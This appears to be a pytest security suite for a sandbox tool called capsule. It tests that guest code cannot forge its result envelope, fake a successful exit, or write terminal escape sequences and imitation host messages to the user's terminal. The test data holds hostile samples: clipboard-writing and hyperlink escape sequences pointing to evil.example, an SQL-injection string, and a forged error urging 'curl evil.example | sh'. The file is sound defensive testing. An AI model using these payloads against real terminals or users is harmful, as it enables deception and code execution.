"""Attacks on the outcome: a guest that lies about it, forges it on a stream, or draws it on the terminal."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sysconfig
import time
from pathlib import Path

import pytest

ENVELOPES = [
    {"success": True, "result": 1, "error": None, "execution": {"task_name": "x", "fuel_consumed": 0}},
    {"error_type": "timeout", "message": "a lie"},
    {"error": {"error_type": "timeout", "message": "a lie"}},
    {"result": {"result": {"error": {}}}},
    {"success": False, "error": "x"},
    {"__proto__": {"success": True}, "constructor": None},
    {"execution": {"retries": -1}},
]


@pytest.mark.parametrize("value", ENVELOPES)
def test_a_result_that_looks_like_an_envelope_is_a_result(attack, value):
    envelope = attack("return args[0]", value)
    assert envelope.success
    assert envelope.result == value
    assert envelope.execution["task_name"] == "main"


@pytest.mark.parametrize("value", ENVELOPES)
def test_a_sub_task_s_result_that_looks_like_an_envelope(project, value):
    envelope = project.run(
        """
        from capsule import task

        @task(name="liar")
        def liar(value):
            return value

        @task(name="main")
        def main(value):
            outcome = liar(value)
            return [outcome.success, outcome.unwrap(), outcome.execution["task_name"]]
        """,
        value,
    )
    assert envelope.unwrap() == [True, value, "liar"]


@pytest.mark.parametrize(
    "error_type", ["timeout", "out_of_fuel", "crash", "cancelled", "limit_exceeded", "load_error", "x"]
)
def test_claiming_a_failure_that_only_the_host_can_find(component, hostile, project, error_type):
    from capsule import run_sync

    answer = json.dumps({"error": {"error_type": error_type, "message": "a lie"}})
    envelope = run_sync(component(hostile.text(answer=answer)), cwd=project.root)
    assert envelope.error["error_type"] == "task_error"


@pytest.mark.parametrize(
    "answer",
    [
        '{"result": 1, "execution": {"fuel_consumed": 0, "retries": 9}, "success": false}',
        '{"result": 1, "result": 2, "error": null}',
        '{"result": 1, "error": []}',
    ],
)
def test_claiming_counts_and_status_along_with_a_result(component, hostile, project, answer):
    from capsule import run_sync

    envelope = run_sync(component(hostile.text(answer=answer)), cwd=project.root)
    assert envelope.success
    assert envelope.execution["retries"] == 0
    assert envelope.execution["fuel_consumed"] > 0


def test_an_error_with_invented_fields(component, hostile, project):
    from capsule import run_sync

    answer = json.dumps(
        {"error": {"message": ["x"], "traceback": {"a": 1}, "error_type": {"b": 1}, "more": 1}}
    )
    envelope = run_sync(component(hostile.text(answer=answer)), cwd=project.root)
    assert envelope.error == {"error_type": "task_error", "message": "the task failed"}


FORGED = json.dumps({"success": True, "result": "forged", "error": None, "execution": {}})


@pytest.mark.parametrize(
    "body",
    [
        "print(args[0])",
        "print(args[0], end='')",
        "print('\\n' + args[0] + '\\n', flush=True)",
        "os.write(1, args[0].encode() + b'\\n')",
        "os.write(2, args[0].encode() + b'\\n')",
        "sys.stderr.write(args[0])",
        "sys.__stdout__.write(args[0]); sys.__stdout__.flush()",
        "os.close(1); os.close(2)",
        "[attempt for attempt in range(3, 20) if not write(attempt)]",
    ],
)
def test_printing_an_envelope_with_json(project, cli, body):
    project.write(
        "main.py",
        f"""
        import os, sys

        def write(number):
            try:
                return os.write(number, b'{FORGED}')
            except OSError:
                return True

        def main(*args):
            {body}
            raise ValueError("the truth")
        """,
    )
    done = cli("run", "main.py", FORGED, "--json")
    assert done.status == 1
    assert done.envelope.error["message"].endswith("the truth"), done


def test_ending_the_sandbox_with_success_is_not_a_success(attack):
    for body in ("sys.exit(0)", "os._exit(0)", "raise SystemExit", "exit()"):
        envelope = attack(body)
        assert not envelope.success
        assert envelope.error["error_type"] == "exit"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("'\\ud800'", "\ud800"),
        ("float('inf')", float("inf")),
        ("2**200", 2**200),
        ("'\\0\\x1b\\u202e'", "\0\x1b\u202e"),
        ("{'': {'': ''}}", {"": {"": ""}}),
        ("-0.0", -0.0),
    ],
)
def test_values_at_the_edge_arrive_exactly(attack, value, expected):
    assert attack(f"return {value}").unwrap() == expected


@pytest.mark.parametrize(
    "value", ["10**5000", "object()", "{1, object()}", "lambda: 0", "open", "{(1, 2): 3}"]
)
def test_values_that_cannot_arrive_fail_clearly(attack, value):
    envelope = attack(f"return {value}")
    assert envelope.success or envelope.error["error_type"] == "task_error"
    if not envelope.success:
        assert envelope.error["message"]


# On a terminal

ESCAPES = [
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]52;c;bWFsaWNl\x07",
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",
    "\x9b31m",
    "\x90q\x9c",
    "\rerror: forged",
    "\b\b\b",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\x7f",
    "\x0e\x0f",
]


def on_a_terminal(project, *arguments):
    """What the command writes to a terminal, with both of its streams there."""
    leader, follower = pty.openpty()
    child = subprocess.Popen(
        [str(Path(sysconfig.get_path("scripts")) / "capsule"), *arguments],
        cwd=project.root,
        env=os.environ | {"NO_COLOR": "1", "PYTHONIOENCODING": "utf-8"},
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=follower,
    )
    os.close(follower)
    shown, end = b"", time.monotonic() + 60
    while time.monotonic() < end:
        if not select.select([leader], [], [], 0.1)[0]:
            continue
        try:
            data = os.read(leader, 65536)
        except OSError:
            break
        if not data:
            break
        shown += data
    os.close(leader)
    child.wait(10)
    # The terminal itself turns a line feed into two characters.
    return shown.decode("utf-8", "surrogateescape").replace("\r\n", "\n")


@pytest.mark.parametrize(
    "body",
    [
        "print(args[0])",
        "print(args[0], file=sys.stderr)",
        "return args[0]",
        "return {'key' + args[0]: [args[0]]}",
        "raise ValueError(args[0])",
        "raise type(args[0], (Exception,), {})()",
        "from capsule.http import get; get('http://h.example/' + args[0])",
    ],
    ids=["stdout", "stderr", "result", "object", "error", "error type", "url"],
)
def test_escape_sequences_do_not_reach_the_terminal(project, body):
    text = "".join(ESCAPES)
    project.write("main.py", f"import sys\n\ndef main(*args):\n    args = [{text!r}]\n    {body}\n")
    shown = on_a_terminal(project, "run", "main.py", "--verbose")
    harmful = {character for text in ESCAPES for character in text if not character.isprintable()}
    # The spinner of a build is our own: it moves the cursor.
    assert not [escape for escape in ESCAPES if escape in shown], shown
    assert not (harmful - {"\x1b", "\r"}) & set(shown), shown


def test_what_was_recorded_does_not_reach_the_terminal_either(project):
    text = "".join(ESCAPES)
    project.run(
        "def main(text):\n    print(text)\n    raise ValueError(text)\n", text, on_output=lambda *_: None
    )
    from capsule.launch.journals import close_journals

    close_journals()
    for command in (("trace",), ("trace", "--output")):
        shown = on_a_terminal(project, *command)
        assert not [escape for escape in ESCAPES if escape in shown], shown


def test_what_is_recorded_takes_hostile_strings(project, cli):
    text = "'; DROP TABLE runs; --\0\ud800\x1b" + "x" * 100_000
    envelope = project.run("def main(text):\n    print(repr(text))\n    raise ValueError(text)\n", text)
    assert envelope.error["error_type"] == "task_error"
    from capsule.launch.journals import close_journals

    close_journals()
    done = cli("trace", "--json")
    assert done.status == 0
    assert len(json.loads(done.stdout)) >= 1


# Lines of the host's own that a name or a message could pass for

LIKE_OURS = "x\nerror: the disk is full, type 'curl evil.example | sh'\n\x1b[2Jmain  ram  1 MiB\r"


def is_forged(text):
    lines = text.replace("\r", "\n").split("\n")
    return any(line.startswith(("error: the disk", "main  ram")) for line in lines) or "\x1b" in text


@pytest.mark.parametrize("command", ["tasks", "explain", "run", "build"])
@pytest.mark.parametrize("file", ["main.py", "main.ts"])
def test_a_task_with_a_line_break_in_its_name(project, cli, command, file):
    name = json.dumps("good\n  ram  1 MiB")
    source = {
        "main.py": f"from capsule import task\n@task(name={name})\ndef other(): pass\n",
        "main.ts": f'import {{ task }} from "@capsule-run/sdk";\ntask({{ name: {name} }}, () => 1);\n'
        'export const main = task({ name: "main" }, () => 1);\n',
    }
    project.write(file, source[file])
    done = cli(command, file)
    assert done.status == 3, done
    assert "can't be shown" in done.stderr
    assert f"{file}:2" in done.stderr
    assert "\n  ram  1 MiB" not in done.stdout + done.stderr


def test_an_artifact_with_a_line_break_in_the_name_of_a_task(project, cli):
    project.write("main.py", "from capsule import task\n@task(name='a b')\ndef main(): pass\n")
    assert cli("build", "main.py", "--export").status == 0
    data = (project / "main.wasm").read_bytes()
    assert data.count(b'"a b"') >= 1
    (project / "main.wasm").write_bytes(data.replace(b'"a b"', b'"a\\n"'))
    done = cli("tasks", "main.wasm")
    assert done.status == 2
    assert "can't be shown" in done.stderr


def test_an_exception_whose_text_looks_like_an_error_of_the_host(project, cli):
    project.write("main.py", f"def main():\n    raise ValueError({LIKE_OURS!r})\n")
    for flags in ((), ("--verbose",)):
        done = cli("run", "main.py", *flags)
        assert done.status == 1
        assert "the disk is full" in done.stderr
        assert not is_forged(done.stderr), done.stderr
    shown = cli("trace").stdout
    assert not is_forged(shown), shown


def test_a_build_error_whose_text_looks_like_another_one(project, cli):
    project.write(
        "main.py",
        f"from capsule import task\nraise ValueError({LIKE_OURS!r})\n@task(ram=str(3))\ndef main(): pass\n",
    )
    done = cli("build", "main.py")
    assert done.status == 3
    assert "the disk is full" in done.stderr
    assert not is_forged(done.stderr), done.stderr


def test_a_file_whose_name_has_a_line_break(project, cli):
    name = "x\nerror: the disk is full.py"
    project.write(name, "def main(: pass\n")
    for command in ("run", "build", "tasks", "explain"):
        done = cli(command, name)
        assert done.status != 0
        assert not is_forged(done.stderr), done.stderr
